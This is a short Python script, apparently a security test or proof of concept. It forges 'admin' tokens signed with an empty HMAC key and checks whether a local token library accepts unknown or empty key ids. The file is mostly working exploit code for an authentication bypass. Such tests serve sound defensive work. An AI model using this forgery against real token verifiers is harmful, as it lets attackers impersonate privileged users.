"""A key id that nobody knows stands for the empty key, with which everybody can sign."""

import base64
import hashlib
import hmac
import json
import sys

from tokens import Tokens


def part(raw):
    """Return bytes as part of a token."""
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


tokens = Tokens({"k1": b"a key of the server"}, "k1", clock=lambda: 1000)
for header in ({"alg": "HS256", "kid": "k9"}, {"alg": "HS512", "kid": ""}, {"alg": "other", "kid": "k9"}):
    signed = (
        f"{part(json.dumps(header).encode())}.{part(json.dumps({'user': 'admin', 'exp': 9999}).encode())}"
    )
    for algorithm in (hashlib.sha256, hashlib.sha512):
        signature = hmac.new(b"", signed.encode(), algorithm).digest()
        try:
            if tokens.verify(f"{signed}.{part(signature)}").get("user") == "admin":
                sys.exit(0)
        except (ValueError, LookupError, PermissionError):
            continue
sys.exit(1)
